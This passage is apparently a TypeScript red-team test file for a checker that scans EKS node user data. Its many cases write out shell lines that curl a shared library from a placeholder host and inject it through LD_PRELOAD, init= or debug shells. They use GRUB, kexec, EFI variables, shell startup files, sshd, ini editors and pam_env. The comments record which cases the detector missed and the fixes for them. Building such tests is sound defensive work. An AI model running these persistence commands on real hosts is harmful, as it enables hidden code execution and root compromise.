// Red-team round 73 on EKS NODE user data (neighbours of round 73's node-environment fixes).
// Probed: other spellings and places of the kernel command line (GRUB_CMDLINE_LINUX+=, /etc/sysconfig/grub, a whole
// grub.cfg, a direct grubenv edit, grub2-editenv FILE set tuned_params, kexec --append/--command-line, bootctl
// systemd-efi-options, ukify's uki.conf, grubby --args WORD, tee <<< /etc/kernel/cmdline, sed -e of one BLS entry);
// other shells' startup (zsh ZDOTDIR, /etc/zshenv.zwc, source, plain PATH=, /etc/zsh/zshenv typeset -gx, module_path,
// csh variables and if-blocks, ksh93 /etc/ksh.kshrc, fish conf.d, /etc/profile.d/*.csh); sshd (AcceptEnv globs beyond
// the 8 sample names, /etc/sysconfig/sshd OPTIONS -o SetEnv, Include of a file outside sshd_config.d, tee -a, Match
// SetEnv PATH); ini editors beside crudini (openstack-config, git config -f, augtool, crudini of a unit drop-in,
// --ini-options, busctl SetEnvironment); pam_env (conffile=, /etc/default/locale, @{HOME}/${HOME} values, the vendor
// /usr/share/pam/security/pam_env.conf).
// Misses (19 insecure, 0 secure):
// - KERNEL-CMDLINE-SPELLINGS (3: K1, K3, K4): GRUB_CMDLINE_LINUX+=, a written grub.cfg, a direct grubenv edit. Fix:
//   `\+?=` in rootWrites.ts's grub filter; read grub.cfg linux lines and grubenv writes with kernelArgsOpenings.
// - KEXEC (2: K6, K7): kexec -l --append=/--command-line= then kexec -e/systemctl kexec. Fix: read them as kernel args.
// - KERNEL-CMDLINE-EFI / UKI (2, lower priority: K8, K9): bootctl systemd-efi-options; /etc/kernel/uki.conf Cmdline=.
// - ZSH-ZDOTDIR/ZWC (3: Z1, Z2, Z6): ZDOTDIR (add to LOADER_VARIABLES), /etc/zshenv.zwc (judge .zwc twins as unknown),
//   module_path + zmodload.
// - OTHER-SHELL-STARTUP (2: Z9 lower priority, Z10): ksh93 /etc/ksh.kshrc, fish /etc/fish/conf.d. Fix: PROFILE_SCRIPT.
// - SSHD-ACCEPTENV-PATTERN (2: H1, H2): globs matching LD_AUDIT / JAVA_TOOL_OPTIONS pass the 8-name sample test. Fix:
//   allow only LANG*/LC_* globs.
// - SSHD-OPTIONS (1: H3): /etc/sysconfig/sshd OPTIONS="-o SetEnv=LD_PRELOAD=...". Fix: read sshd -o as config lines.
// - UNKNOWN-EDITOR (3: C1, C2, C5): openstack-config --set, git config -f, augtool set. Fix: unknown writers of judged
//   files make their content unknown (fail closed).
// - PAM-ENV-VENDOR (1, lower priority: P5): /usr/share/pam/security/pam_env.conf.
// Held: /etc/sysconfig/grub, grub2-editenv FILE set tuned_params, grubby --args WORD, tee <<< /etc/kernel/cmdline, BLS sed
// -e of one entry, zsh source/plain PATH=/typeset -gx, csh `set` variables and if-blocks, /etc/profile.d/*.csh, sshd
// Include outside sshd_config.d, tee -a sshd_config, Match SetEnv PATH, crudini of a unit drop-in and --ini-options,
// busctl SetEnvironment, pam_env conffile=, /etc/default/locale, @{HOME}/${HOME} values.
// Secure held (14 of 14): GRUB_CMDLINE_LINUX+= console, grub2-editenv GRUB state/list/unset, kernel cmdline of
// selinux/audit/mitigations, zshenv PATH append + LANG, csh.login LANG/TZ, SetEnv TZ LANG + AcceptEnv LANG LANGUAGE LC_*,
// AcceptEnv COLORTERM, crudini --get/--del, crudini journald, pam_env PATH ${PATH} + TZ, tabbed EDITOR with comment,
// BLS nvme option, grubby --remove-args.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const file = heredocFile;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const LOADER = /loader|LD_PRELOAD|LD_AUDIT|BASH_ENV|PATH|environment|kernel|unknown|cannot|unread|shell|root/i;

const n = (id: string) => `dev-${id}-73n-nodes`;

const insecure: NodeCase[] = [
    // ---- kernel command line: other files and tools that set it ----
    // Was a MISS (fixed in round 74): KERNEL-CMDLINE-SPELLINGS. grub2-mkconfig sources /etc/default/grub as a shell script (GRUB manual "Simple
    // configuration handling": "The file /etc/default/grub controls the operation of grub-mkconfig. It is sourced by a
    // shell script"); AL2023's /bin/sh is bash, whose `NAME+=value` appends (bash(1) PARAMETERS), so systemd.setenv=
    // LD_PRELOAD reaches PID 1's environment at the next boot (kernel-command-line(7) systemd.setenv=). Accepted (got
    // []): rootWrites.ts nodeJudge `grub` filter matches only /^\s*GRUB_CMDLINE_LINUX(_DEFAULT)?\s*=/. Fix: accept `+=`
    // (and `export`/`declare` prefixes); better, judge every word of a /etc/default/grub(.d) write with kernelArgsOpenings.
    devNodeCase(
        "K1 /etc/default/grub GRUB_CMDLINE_LINUX+= append (bash syntax; grub2-mkconfig sources the file)",
        devNodeScript(n("k1"), [
            SO,
            "echo 'GRUB_CMDLINE_LINUX+=\" systemd.setenv=LD_PRELOAD=/opt/x.so\"' >> /etc/default/grub",
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
        LOADER,
    ),
    devNodeCase(
        "K2 /etc/sysconfig/grub (RHEL's link to /etc/default/grub) GRUB_CMDLINE_LINUX",
        devNodeScript(n("k2"), [
            SO,
            "echo 'GRUB_CMDLINE_LINUX=\"console=ttyS0 systemd.setenv=LD_PRELOAD=/opt/x.so\"' >> /etc/sysconfig/grub",
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): KERNEL-CMDLINE-SPELLINGS. GRUB manual "linux file ...": "Load a Linux kernel image from file. The rest of the
    // arguments are passed verbatim as the kernel command-line"; a grub.cfg user data writes whole (its only menuentry)
    // boots with systemd.setenv=LD_PRELOAD for PID 1 (kernel-command-line(7)). Accepted (got []): grub.cfg writes are
    // not read (only grubby, GRUB_CMDLINE_LINUX, the round 73 files). Fix: read /boot/grub2/grub.cfg, /boot/efi/EFI/*/
    // grub.cfg and /etc/grub.d/* writes' `linux`/`linuxefi`/`set kernelopts=` words with kernelArgsOpenings (unknown
    // content refused).
    devNodeCase(
        "K3 /boot/grub2/grub.cfg written whole, its one menuentry's linux line with systemd.setenv=LD_PRELOAD",
        devNodeScript(n("k3"), [
            SO,
            ...file("/boot/grub2/grub.cfg", [
                "set default=0",
                "set timeout=1",
                "menuentry 'ops' {",
                "    linux /vmlinuz root=UUID=x ro console=ttyS0 systemd.setenv=LD_PRELOAD=/opt/x.so",
                "    initrd /initramfs.img",
                "}",
            ]),
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): KERNEL-CMDLINE-SPELLINGS. The grubenv file is a plain-text environment block (GRUB manual "Environment
    // block": "a 1024-byte file, named grubenv ... containing NAME=VALUE lines"); editing its kernelopts= line is what
    // grub2-editenv does (round 73 fixed E4 for grub2-editenv only). BLS entries taking `options $kernelopts` (RHEL 8
    // style) boot it. Accepted (got []). Fix: treat writes/edits of /boot/grub2/grubenv (and /boot/efi/EFI/*/grubenv)
    // as the grub2-editenv reading: every non-GRUB-state NAME=VALUE's words through kernelArgsOpenings.
    devNodeCase(
        "K4 /boot/grub2/grubenv written directly with kernelopts (no grub2-editenv)",
        devNodeScript(n("k4"), [
            SO,
            "sed -i 's|^kernelopts=.*|& systemd.setenv=LD_PRELOAD=/opt/x.so|' /boot/grub2/grubenv",
        ]),
        LOADER,
    ),
    devNodeCase(
        "K5 grub2-editenv with the grubenv path and set of a custom variable used by grub.cfg",
        devNodeScript(n("k5"), [
            SO,
            "grub2-editenv /boot/grub2/grubenv set 'tuned_params=systemd.setenv=LD_PRELOAD=/opt/x.so'",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): KEXEC. kexec(8): "kexec -l kernel-image --append=command-line-options --initrd=initrd-image" loads a kernel
    // with that command line; `systemctl kexec` / `kexec -e` boots it now (no reboot wait). systemd.setenv=LD_PRELOAD
    // then sets PID 1's environment for every unit (kernel-command-line(7)). Accepted (got []): kexec's options are not
    // read by kernelArgsOpenings' feeders (rootWrites.ts nodeJudge.ran reads grubby and grub2-editenv only). Fix: read
    // kexec -l/-s/-p --append=/--command-line=/-c words with kernelArgsOpenings; unknown words (a substitution such as
    // $(cat /proc/cmdline) with an added literal) judged literally, a fully unknown value refused.
    devNodeCase(
        "K6 kexec -l with --append systemd.setenv=LD_PRELOAD, then systemctl kexec",
        devNodeScript(n("k6"), [
            SO,
            'kexec -l "/boot/vmlinuz-$(uname -r)" --initrd="/boot/initramfs-$(uname -r).img" --append="$(cat /proc/cmdline) systemd.setenv=LD_PRELOAD=/opt/x.so"',
            "systemctl kexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): KEXEC. As K6 with --command-line= (kexec(8) "--command-line=string: Set the kernel command line"); init=
    // a downloaded file runs it as PID 1 (kernel-parameters "init=": "Run specified binary instead of /sbin/init as
    // init process"). Accepted (got []). Fix: as K6.
    devNodeCase(
        "K7 kexec -l --command-line= with literal args, then kexec -e",
        devNodeScript(n("k7"), [
            SO,
            "kexec -l /boot/vmlinuz --initrd=/boot/initramfs.img --command-line='root=UUID=x ro systemd.setenv=LD_PRELOAD=/opt/x.so'",
            "kexec -e",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): KERNEL-CMDLINE-EFI. kernel-command-line(7): "various systemd tools look at the EFI variable
    // "SystemdOptions" (if available). Both sources are combined"; bootctl(1) systemd-efi-options sets it (systemd 252,
    // AL2023's, still has it). On a UEFI-booted node (every Graviton type, AL2023's uefi-preferred AMIs) PID 1 reads
    // systemd.setenv= from it. Accepted (got []). Fix: read `bootctl systemd-efi-options VALUE` (and writes to
    // /sys/firmware/efi/efivars/SystemdOptions-*) with kernelArgsOpenings. Lower priority: needs UEFI boot.
    devNodeCase(
        "K8 bootctl systemd-efi-options (the SystemdOptions EFI variable systemd reads as command line)",
        devNodeScript(n("k8"), [SO, "bootctl systemd-efi-options 'systemd.setenv=LD_PRELOAD=/opt/x.so'"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): KERNEL-CMDLINE-FILES (low priority). ukify(1) [UKI] "Cmdline=: The kernel command line" embedded in the UKI
    // kernel-install(8) builds when /etc/kernel/install.conf says layout=uki (60-ukify.install reads
    // /etc/kernel/uki.conf); the UKI's .cmdline is the kernel command line when it is booted (systemd-boot or an EFI
    // boot entry, which user data can also add with bootctl install/efibootmgr). Accepted (got []). Fix: add
    // /etc/kernel/uki.conf Cmdline= (and ukify --cmdline=) to the round 73 KERNEL_CMDLINE_FILE reading.
    devNodeCase(
        "K9 /etc/kernel/uki.conf [UKI] Cmdline= with layout=uki (ukify via kernel-install)",
        devNodeScript(n("k9"), [
            SO,
            "echo 'layout=uki' > /etc/kernel/install.conf",
            ...file("/etc/kernel/uki.conf", ["[UKI]", "Cmdline=root=UUID=x ro systemd.setenv=LD_PRELOAD=/opt/x.so"]),
            'kernel-install add "$(uname -r)" "/lib/modules/$(uname -r)/vmlinuz"',
        ]),
        LOADER,
    ),
    devNodeCase(
        "K10 grubby --args with the value as a separate word after --update-kernel",
        devNodeScript(n("k10"), [SO, "grubby --update-kernel ALL --args 'systemd.setenv=LD_PRELOAD=/opt/x.so'"]),
        LOADER,
    ),
    devNodeCase(
        "K11 /etc/kernel/cmdline written with tee from a here-string",
        devNodeScript(n("k11"), [
            SO,
            "tee /etc/kernel/cmdline <<< 'root=UUID=x ro init=/opt/x.so'",
            'kernel-install add "$(uname -r)" "/lib/modules/$(uname -r)/vmlinuz"',
        ]),
        LOADER,
    ),
    devNodeCase(
        "K12 BLS entry options via crudini-free sed -i -e on one named entry with quoted path",
        devNodeScript(n("k12"), [
            SO,
            'sed -i -e "/^options/s|\\$| systemd.setenv=LD_PRELOAD=/opt/x.so|" "/boot/loader/entries/$(cat /etc/machine-id)-$(uname -r).conf"',
        ]),
        LOADER,
    ),
    // Round 74 neighbours (fix74-kernel): the boot loader's files, kexec, bootctl, ukify and efibootmgr read as kernel
    // arguments by the one judgement (rootWrites.ts kernelArgsOpenings), unknown words refused.
    devNodeCase(
        "K3b grub.cfg `set extra=init=...` expanded by a whole-word $extra on the linux line",
        devNodeScript(n("k3b"), [
            SO,
            ...file("/boot/grub/grub.cfg", [
                'set extra="init=/opt/x.so"',
                "menuentry 'ops' {",
                "    linuxefi /vmlinuz root=UUID=x ro $extra",
                "}",
            ]),
        ]),
        /init=\/opt\/x\.so/,
    ),
    devNodeCase(
        "K3c grub.cfg linux line with a variable glued to text (${a}=/opt/x.so)",
        devNodeScript(n("k3c"), [
            SO,
            ...file("/boot/efi/EFI/amzn/grub.cfg", [
                "set a=init",
                "menuentry 'ops' {",
                "    linux /vmlinuz root=UUID=x ro ${a}=/opt/x.so",
                "}",
            ]),
        ]),
        /cannot read.*glued/,
    ),
    devNodeCase(
        "K3d /etc/grub.d/40_custom script with a menuentry booting rd.shell",
        devNodeScript(n("k3d"), [
            ...file("/etc/grub.d/40_custom", [
                "#!/bin/sh",
                "exec tail -n +3 $0",
                "menuentry 'ops' {",
                "    linux /vmlinuz root=UUID=x ro rd.shell",
                "}",
            ]),
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
        /rd\.shell/,
    ),
    devNodeCase(
        "K3e sed -i appending init= to every linux line of grub.cfg",
        devNodeScript(n("k3e"), [SO, "sed -i 's|^\\(\\s*linux .*\\)$|\\1 init=/opt/x.so|' /boot/grub2/grub.cfg"]),
        /init=\/opt\/x\.so/,
    ),
    devNodeCase(
        "K4b grubenv written whole with printf (kernelopts with systemd.debug_shell)",
        devNodeScript(n("k4b"), [
            "printf '# GRUB Environment Block\\nkernelopts=root=UUID=x ro systemd.debug_shell\\n' > /boot/grub2/grubenv",
        ]),
        /systemd\.debug_shell/,
    ),
    devNodeCase(
        "K4c grubenv sed replacing kernelopts with init= as its first word",
        devNodeScript(n("k4c"), [
            SO,
            "sed -i 's|^kernelopts=.*|kernelopts=init=/opt/x.so ro|' /boot/efi/EFI/amzn/grubenv",
        ]),
        /init=\/opt\/x\.so/,
    ),
    devNodeCase(
        "K6b kexec of the installed kernel, --reuse-cmdline plus a literal --append systemd.setenv=LD_PRELOAD",
        devNodeScript(n("k6b"), [
            SO,
            'kexec -l "/boot/vmlinuz-$(uname -r)" --initrd="/boot/initramfs-$(uname -r).img" --reuse-cmdline --append "systemd.setenv=LD_PRELOAD=/opt/x.so"',
            "systemctl kexec",
        ]),
        /LD_PRELOAD/,
    ),
    devNodeCase(
        "K6c kexec --append of an unknown variable",
        devNodeScript(n("k6c"), [
            'EXTRA="$(curl -fsSL https://config.example.com/args)"',
            'kexec -l "/boot/vmlinuz-$(uname -r)" --reuse-cmdline --append="$EXTRA"',
            "kexec -e",
        ]),
        /kernel command line the pack cannot read/,
    ),
    devNodeCase(
        "K7b kexec of a downloaded initrd with the running command line",
        devNodeScript(n("k7b"), [
            "curl -fsSL -o /boot/initramfs-ops.img https://downloads.example.com/initramfs.img",
            'kexec -l "/boot/vmlinuz-$(uname -r)" --initrd=/boot/initramfs-ops.img --reuse-cmdline',
            "systemctl kexec",
        ]),
        /a kernel or initrd it made/,
    ),
    devNodeCase(
        "K8b SystemdOptions EFI variable written with printf (attribute bytes, UTF-16 rd.shell)",
        devNodeScript(n("k8b"), [
            "printf '\\x07\\x00\\x00\\x00r\\x00d\\x00.\\x00s\\x00h\\x00e\\x00l\\x00l\\x00' > /sys/firmware/efi/efivars/SystemdOptions-8cf2644b-4b0b-428f-9387-6d876050dc67",
        ]),
        /rd\.shell/,
    ),
    devNodeCase(
        "K8c bootctl systemd-efi-options with systemd.debug_shell",
        devNodeScript(n("k8c"), ["bootctl systemd-efi-options systemd.debug_shell"]),
        /systemd\.debug_shell/,
    ),
    devNodeCase(
        "K9b ukify build --cmdline=@FILE of a downloaded file",
        devNodeScript(n("k9b"), [
            "curl -fsSL -o /opt/cmdline.txt https://config.example.com/cmdline",
            'ukify build --linux="/lib/modules/$(uname -r)/vmlinuz" --cmdline=@/opt/cmdline.txt --output=/boot/efi/EFI/Linux/ops.efi',
        ]),
        /ukify --cmdline=@\/opt\/cmdline\.txt/,
    ),
    devNodeCase(
        "K9c ukify build --cmdline with init= (separate word)",
        devNodeScript(n("k9c"), [
            SO,
            'ukify build --linux="/lib/modules/$(uname -r)/vmlinuz" --cmdline "root=UUID=x init=/opt/x.so" --output=/boot/efi/EFI/Linux/ops.efi',
        ]),
        /init=\/opt\/x\.so/,
    ),
    devNodeCase(
        "K9d efibootmgr boot entry for the EFI-stub kernel with -u systemd.setenv=LD_PRELOAD",
        devNodeScript(n("k9d"), [
            SO,
            "efibootmgr -c -d /dev/nvme0n1 -p 1 -L ops -l '\\vmlinuz.efi' -u 'root=UUID=x systemd.setenv=LD_PRELOAD=/opt/x.so'",
        ]),
        /LD_PRELOAD/,
    ),
    devNodeCase(
        "K9e efibootmgr extra arguments after other options (no -u), init= a downloaded file",
        devNodeScript(n("k9e"), [SO, "efibootmgr -c -L ops -l '\\vmlinuz.efi' 'init=/opt/x.so' -p 1"]),
        /init=\/opt\/x\.so/,
    ),
    devNodeCase(
        "K7c kexec -i (no-checks flag, no value) before --append init=",
        devNodeScript(n("k7c"), [SO, "kexec -l /boot/vmlinuz -i --append='init=/opt/x.so'", "kexec -e"]),
        /init=\/opt\/x\.so/,
    ),
    // ---- shells' startup files ----
    // Was a MISS (fixed in round 74): ZSH-ZDOTDIR. zsh(1) STARTUP/SHUTDOWN FILES: after /etc/zshenv "Commands are then read from
    // $ZDOTDIR/.zshenv" (then $ZDOTDIR/.zprofile, .zshrc, .zlogin): ZDOTDIR=/opt/ops makes every zsh run a downloaded
    // file the pack never reads. Accepted (got []): profileVariables (userDataReaders/systemd.ts) reads ZDOTDIR as a
    // harmless variable (LOADER_VARIABLES, rootReads.ts, lacks it). Fix: add ZDOTDIR to LOADER_VARIABLES (as ENV and
    // BASH_ENV are) or refuse it in ZSH_STARTUP files unless it names a root-owned directory whose files are judged.
    devNodeCase(
        "Z1 /etc/zshenv sets ZDOTDIR=/opt/ops (zsh then reads /opt/ops/.zshenv, a file user data downloads)",
        devNodeScript(n("z1"), [
            "curl -fsSL -o /opt/ops/.zshenv https://downloads.example.com/zshenv",
            "echo 'export ZDOTDIR=/opt/ops' >> /etc/zshenv",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): ZSH-ZWC. zsh(1) STARTUP/SHUTDOWN FILES: "Any of these files may be pre-compiled with the zcompile builtin
    // ... If a compiled file exists (named for the original file plus the .zwc extension) and it is newer than the
    // original file, the compiled file will be used instead": a downloaded /etc/zshenv.zwc is code every zsh runs.
    // Accepted (got []): PROFILE_SCRIPT (systemd.ts) names the text files only and the .zwc is no file the pack knows.
    // Fix: add `.zwc` twins of every ZSH_STARTUP file to the judged files, content unknown (refused).
    devNodeCase(
        "Z2 /etc/zshenv.zwc downloaded (zsh runs a newer compiled .zwc instead of /etc/zshenv)",
        devNodeScript(n("z2"), [
            "dnf install -y zsh",
            "curl -fsSL -o /etc/zshenv.zwc https://downloads.example.com/zshenv.zwc",
        ]),
        LOADER,
    ),
    devNodeCase(
        "Z3 /etc/zshenv source of a downloaded file",
        devNodeScript(n("z3"), [
            "curl -fsSL -o /opt/ops/env.zsh https://downloads.example.com/env.zsh",
            "echo 'source /opt/ops/env.zsh' >> /etc/zshenv",
        ]),
        LOADER,
    ),
    devNodeCase(
        "Z4 /etc/zshenv PATH=/opt/ops/bin:$PATH (plain assignment of the exported PATH)",
        devNodeScript(n("z4"), ["echo 'PATH=/opt/ops/bin:$PATH' >> /etc/zshenv"]),
        LOADER,
    ),
    devNodeCase(
        "Z5 /etc/zsh/zshenv (Debian/Ubuntu) typeset -gx LD_PRELOAD",
        devNodeScript(n("z5"), [SO, "echo 'typeset -gx LD_PRELOAD=/opt/x.so' >> /etc/zsh/zshenv"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): ZSH-ZDOTDIR class (module path). zshmodules(1)/zshbuiltins(1) zmodload "Load a binary module ... searched
    // for in the directories given by the module_path array" (zshparam(1) module_path <S> <Z> (MODULE_PATH)): /etc/zshenv
    // naming /opt makes every zsh dlopen a downloaded .so. Accepted (got []): profileVariables reads only PATH's `path`
    // array. Fix: treat module_path/MODULE_PATH assignments and zmodload in ZSH_STARTUP files as unknown (refused).
    devNodeCase(
        "Z6 /etc/zshenv module_path=(/opt/ops) then zmodload (zsh loads a .so module)",
        devNodeScript(n("z6"), [SO, "echo 'module_path=(/opt $module_path); zmodload x' >> /etc/zshenv"]),
        LOADER,
    ),
    devNodeCase(
        "Z7 /etc/csh.cshrc setenv LD_PRELOAD via a variable set earlier",
        devNodeScript(n("z7"), [SO, "printf 'set lib=/opt/x.so\\nsetenv LD_PRELOAD $lib\\n' >> /etc/csh.cshrc"]),
        LOADER,
    ),
    devNodeCase(
        "Z8 /etc/csh.cshrc if-then block setenv (multi-line csh)",
        devNodeScript(n("z8"), [
            SO,
            ...file("/etc/csh.cshrc", ["if ( $uid == 0 ) then", "    setenv LD_PRELOAD /opt/x.so", "endif"]),
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): OTHER-SHELL-STARTUP (low priority). ksh93 built with SHOPT_SYSRC reads /etc/ksh.kshrc for every interactive
    // shell before $ENV (shell startup tables, e.g. the ksh93 column: interactive "/etc/ksh.kshrc, $ENV"); RHEL's ksh
    // skel .kshrc sources /etc/kshrc. An export there is root's interactive ksh environment. Accepted (got []):
    // PROFILE_SCRIPT (systemd.ts) names bash, zsh and csh files only. Fix: add /etc/ksh.kshrc, /etc/kshrc, /etc/mkshrc,
    // /root/.kshrc, /root/.mkshrc.
    devNodeCase(
        "Z9 ksh93's /etc/ksh.kshrc export LD_PRELOAD (every interactive ksh93)",
        devNodeScript(n("z9"), [SO, "dnf install -y ksh", "echo 'export LD_PRELOAD=/opt/x.so' >> /etc/ksh.kshrc"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): OTHER-SHELL-STARTUP. fish docs "Configuration files": fish reads $__fish_sysconf_dir/conf.d/*.fish (usually
    // /etc/fish/conf.d) and /etc/fish/config.fish at every start, scripts included (the same "every zsh" reach round 73
    // gave /etc/zshenv); `set -gx` exports. Accepted (got []). Fix: add /etc/fish/config.fish, /etc/fish/conf.d/*,
    // /usr/share/fish/vendor_conf.d/*, /root/.config/fish/** to PROFILE_SCRIPT, read as unknown (fish syntax) unless
    // only `set -gx NAME VALUE` lines.
    devNodeCase(
        "Z10 fish's /etc/fish/conf.d set -gx LD_PRELOAD",
        devNodeScript(n("z10"), [
            SO,
            "dnf install -y fish",
            "echo 'set -gx LD_PRELOAD /opt/x.so' > /etc/fish/conf.d/ops.fish",
        ]),
        LOADER,
    ),
    devNodeCase(
        "Z11 /etc/profile.d/ops.csh (sourced by AL2023's /etc/csh.cshrc) setenv LD_PRELOAD",
        devNodeScript(n("z11"), [SO, "echo 'setenv LD_PRELOAD /opt/x.so' > /etc/profile.d/ops.csh"]),
        LOADER,
    ),
    // ---- sshd ----
    // Was a MISS (fixed in round 74): SSHD-ACCEPTENV-PATTERN. sshd_config(5) AcceptEnv: "Variables are specified by name, which may contain the
    // wildcard characters '*' and '?'"; *AUDIT matches LD_AUDIT (ld.so(8) "LD_AUDIT: A list of user-specified, ELF
    // shared objects to be loaded before all others"), so an ssh client sets it for its session past a ForceCommand or
    // a key's command=. Accepted (got []): sshdEnvironmentOpenings (userDataReaders/rootWrites.ts) tests a pattern only
    // against 8 sample names (LD_PRELOAD, LD_LIBRARY_PATH, BASH_ENV, ENV, PATH, PYTHONPATH, PERL5LIB, NODE_OPTIONS).
    // Fix: refuse any AcceptEnv word with `*`/`?` except LC_* and LANG* (an allowlist), or test the glob against every
    // alternative LOADER_VARIABLES can match.
    devNodeCase(
        "H1 sshd AcceptEnv *AUDIT (matches LD_AUDIT, a pattern outside the pack's 8 names)",
        devNodeScript(n("h1"), ["echo 'AcceptEnv LANG *AUDIT' > /etc/ssh/sshd_config.d/50-env.conf"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): SSHD-ACCEPTENV-PATTERN. As H1: JAVA_TOOL_* matches JAVA_TOOL_OPTIONS (JDK docs "The JAVA_TOOL_OPTIONS
    // Environment Variable": its -javaagent: loads an agent into every JVM the session starts), a LOADER_VARIABLES name
    // the 8 samples miss. Accepted (got []). Fix: as H1.
    devNodeCase(
        "H2 sshd AcceptEnv JAVA_TOOL_* (JAVA_TOOL_OPTIONS -javaagent)",
        devNodeScript(n("h2"), ["echo 'AcceptEnv JAVA_TOOL_*' > /etc/ssh/sshd_config.d/50-env.conf"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): SSHD-OPTIONS. AL2023/Fedora's sshd.service runs `EnvironmentFile=-/etc/sysconfig/sshd` and
    // `ExecStart=/usr/sbin/sshd -D $OPTIONS` (systemd.service(5): an unquoted $VAR "is split at whitespace" into
    // words); sshd(8) "-o option: Can be used to give options in the format used in the configuration file", so
    // SetEnv=LD_PRELOAD=... is every ssh session's environment (sshd_config(5) SetEnv), as E9 of round 72. Accepted (got
    // []): sshdEnvironmentOpenings reads sshd_config(.d) files only. Fix: read /etc/sysconfig/sshd OPTIONS (and any
    // sshd -o/-f in a unit or script) as sshd_config lines (sshdOpenings + sshdEnvironmentOpenings).
    devNodeCase(
        "H3 /etc/sysconfig/sshd OPTIONS=-o SetEnv=LD_PRELOAD (sshd.service's EnvironmentFile, ExecStart $OPTIONS)",
        devNodeScript(n("h3"), [
            SO,
            "echo 'OPTIONS=\"-o SetEnv=LD_PRELOAD=/opt/x.so\"' >> /etc/sysconfig/sshd",
            "systemctl restart sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "H4 sshd_config.d Include of another file under /etc/ssh that holds SetEnv LD_PRELOAD",
        devNodeScript(n("h4"), [
            SO,
            "echo 'SetEnv LD_PRELOAD=/opt/x.so' > /etc/ssh/ops-env.conf",
            "echo 'Include /etc/ssh/ops-env.conf' > /etc/ssh/sshd_config.d/10-include.conf",
            "systemctl restart sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "H5 crudini-free append to /etc/ssh/sshd_config with tee -a SetEnv",
        devNodeScript(n("h5"), [SO, "echo 'SetEnv LD_PRELOAD=/opt/x.so' | tee -a /etc/ssh/sshd_config"]),
        LOADER,
    ),
    devNodeCase(
        "H6 sshd_config.d Match User root SetEnv PATH with /opt/ops/bin first",
        devNodeScript(n("h6"), [
            ...file("/etc/ssh/sshd_config.d/50-env.conf", ["Match User root", "    SetEnv PATH=/opt/ops/bin:/usr/bin"]),
        ]),
        LOADER,
    ),
    // ---- crudini and other ini editors ----
    // Was a MISS (fixed in round 74): UNKNOWN-EDITOR. openstack-config(1) (openstack-utils) is a wrapper of crudini: `openstack-config --set FILE
    // SECTION PARAM VALUE` writes PARAM = VALUE like crudini --set (round 73's W2 fix); DefaultEnvironment=LD_PRELOAD is
    // every unit's environment (systemd-system.conf(5)). Accepted (got []): rootReads.ts dispatches only `crudini` to
    // RootReads.crudini. Fix: read openstack-config like crudini; more generally, a command the pack does not know whose
    // operand is a file the pack judges (MANAGER_CONFIG, sshd_config, pam files ...) should make that file's content
    // unknown (writtenUnknown, fail closed).
    devNodeCase(
        "C1 openstack-config --set (crudini wrapper) system.conf Manager DefaultEnvironment",
        devNodeScript(n("c1"), [
            SO,
            "openstack-config --set /etc/systemd/system.conf Manager DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): UNKNOWN-EDITOR. git-config(1) "--file config-file: Use the given config file instead of the one specified by
    // GIT_CONFIG"; `git config -f F Section.Key V` writes `\tKey = V` under [Section] (checked with git 2.39: it keeps
    // the key's case and appends to the existing [Manager] section), and systemd's parser strips leading whitespace, so
    // DefaultEnvironment=LD_PRELOAD is set. Accepted (got []). Fix: read `git config -f/--file FILE` writes as edits of
    // FILE (fragment `Key = V`) or unknown content (as C1).
    devNodeCase(
        "C2 git config -f system.conf Manager.DefaultEnvironment (git writes ini syntax)",
        devNodeScript(n("c2"), [
            SO,
            "git config -f /etc/systemd/system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        "C3 crudini --set of a unit drop-in Service Environment LD_PRELOAD (kubelet)",
        devNodeScript(n("c3"), [
            SO,
            "crudini --set /etc/systemd/system/kubelet.service.d/50-env.conf Service Environment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        "C4 crudini --set with options after the file (--existing) and --ini-options",
        devNodeScript(n("c4"), [
            SO,
            "crudini --ini-options=nospace --set /etc/systemd/system.conf Manager ManagerEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): UNKNOWN-EDITOR. augtool(1) "set PATH VALUE" with -s (--autosave) "Automatically save at the end of
    // instructions" writes the file under /files/<path>. Accepted (got []): augtool's /files/etc/... operand is not a
    // file path the pack recognizes. Fix: read augtool set/setm/ins/touch/rm paths under /files/ as writes of the named
    // file with unknown content (writtenUnknown).
    devNodeCase(
        "C5 augtool set systemd.conf DefaultEnvironment",
        devNodeScript(n("c5"), [
            SO,
            "augtool -s set /files/etc/systemd/system.conf/Manager/DefaultEnvironment/value LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        "C6 busctl call SetEnvironment on systemd1 (the manager's environment over D-Bus)",
        devNodeScript(n("c6"), [
            SO,
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager SetEnvironment as 1 LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // ---- pam_env ----
    devNodeCase(
        "P1 pam.d pam_env.so conffile= naming a downloaded file",
        devNodeScript(n("p1"), [
            "curl -fsSL -o /opt/ops/env.conf https://downloads.example.com/env.conf",
